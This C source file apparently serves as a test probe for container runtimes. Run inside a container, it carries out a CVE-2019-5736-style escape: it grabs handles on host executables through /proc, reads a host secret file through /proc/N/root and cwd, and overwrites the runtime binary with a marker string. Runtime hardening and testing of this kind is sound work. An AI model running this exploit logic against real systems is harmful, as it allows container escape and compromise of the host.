/*
 * CVE-2019-5736 class attacker, run as a container's process. It watches /proc of its pid
 * namespace for processes it has not seen, grabs a handle on each one's executable (and
 * tries their root and cwd, which point at the host while a runtime is still setting a
 * container up), then keeps trying to reopen every grabbed executable for writing through
 * /proc/self/fd/N: once no process executes the file any more (no ETXTBSY), a writable
 * reopen means the host's binary is the container's to overwrite.
 *
 * usage: exe_overwrite REPORT SECONDS HOST_SECRET
 *   REPORT       file the findings are written to (one line each)
 *   SECONDS      how long to watch at most; it stops earlier, 2 s after a file named
 *                "stop" appears beside REPORT (time to retry the writes once the runtime
 *                has exited)
 *   HOST_SECRET  absolute host path of a file outside every rootfs; reading it through
 *                /proc/N/root or /proc/N/cwd is a host filesystem escape
 * Exit status 0; the report says what happened:
 *   "OVERWROTE <target>"      the write went through (the runtime binary is compromised)
 *   "HOSTFILE <how>"          the host secret was read
 *   "HELD <target>"           a handle was grabbed
 *   "BLOCKED <target> <errno>" the writable reopen was refused for good
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 512

struct held {
    int fd;
    dev_t dev;
    ino_t ino;
    int done;
    char name[256];
};

static struct held held[MAX_HELD];
static int nheld;
static FILE *report;
static int seen_host;

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int ends_with(const char *s, const char *suffix) {
    size_t a = strlen(s), b = strlen(suffix);
    return a >= b && strcmp(s + a - b, suffix) == 0;
}

static void try_host_file(const char *pid, const char *link, const char *rel) {
    char path[4096];
    snprintf(path, sizeof path, "/proc/%s/%s%s", pid, link, rel);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    char buf[64] = {0};
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n > 0 && strncmp(buf, "HOST-SECRET", 11) == 0 && seen_host < 8) {
        seen_host++;
        fprintf(report, "HOSTFILE /proc/<pid>/%s\n", link);
        fflush(report);
    }
}

static void grab(const char *pid, const char *secret) {
    char path[64];
    try_host_file(pid, "root", secret);
    try_host_file(pid, "cwd", "/../host-secret");
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return;
    struct stat st;
    if (fstat(fd, &st) < 0) {
        close(fd);
        return;
    }
    for (int i = 0; i < nheld; i++) {
        if (held[i].dev == st.st_dev && held[i].ino == st.st_ino) {
            close(fd);
            return;
        }
    }
    char self[64], target[256] = {0};
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    if (readlink(self, target, sizeof target - 1) < 0)
        strcpy(target, "?");
    /* The workloads' own busybox is not what this attacker is after. */
    if (ends_with(target, "/busybox") || nheld == MAX_HELD) {
        close(fd);
        return;
    }
    held[nheld].fd = fd;
    held[nheld].dev = st.st_dev;
    held[nheld].ino = st.st_ino;
    held[nheld].done = 0;
    snprintf(held[nheld].name, sizeof held[nheld].name, "%s", target);
    nheld++;
    fprintf(report, "HELD %s\n", target);
    fflush(report);
}

static void try_write(struct held *h) {
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", h->fd);
    int w = open(self, O_WRONLY | O_CLOEXEC);
    if (w < 0) {
        if (errno == ETXTBSY)
            return; /* still being executed: try again later */
        fprintf(report, "BLOCKED %s %s\n", h->name, strerror(errno));
        fflush(report);
        h->done = 1;
        return;
    }
    static const char marker[] = "PWNED-BY-CONTAINER";
    ssize_t n = pwrite(w, marker, sizeof marker - 1, 0);
    fprintf(report, n > 0 ? "OVERWROTE %s\n" : "BLOCKED %s write failed\n", h->name);
    fflush(report);
    close(w);
    h->done = 1;
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: %s REPORT SECONDS HOST_SECRET\n", argv[0]);
        return 2;
    }
    report = fopen(argv[1], "w");
    if (!report)
        return 3;
    double end = now() + atof(argv[2]);
    char stop[4096];
    snprintf(stop, sizeof stop, "%s", argv[1]);
    char *slash = strrchr(stop, '/');
    snprintf(slash ? slash + 1 : stop, sizeof stop - (slash ? slash + 1 - stop : 0), "stop");
    int stopping = 0;
    char me[32];
    snprintf(me, sizeof me, "%d", getpid());
    fprintf(report, "STARTED\n");
    fflush(report);
    while (now() < end) {
        if (!stopping && access(stop, F_OK) == 0) {
            stopping = 1;
            if (now() + 2 < end)
                end = now() + 2;
        }
        DIR *d = opendir("/proc");
        if (!d)
            return 4;
        struct dirent *e;
        while ((e = readdir(d)) != NULL) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9' || strcmp(e->d_name, me) == 0)
                continue;
            grab(e->d_name, argv[3]);
        }
        closedir(d);
        for (int i = 0; i < nheld; i++)
            if (!held[i].done)
                try_write(&held[i]);
    }
    for (int i = 0; i < nheld; i++)
        if (!held[i].done)
            fprintf(report, "BUSY %s\n", held[i].name);
    fprintf(report, "END\n");
    fclose(report);
    return 0;
}
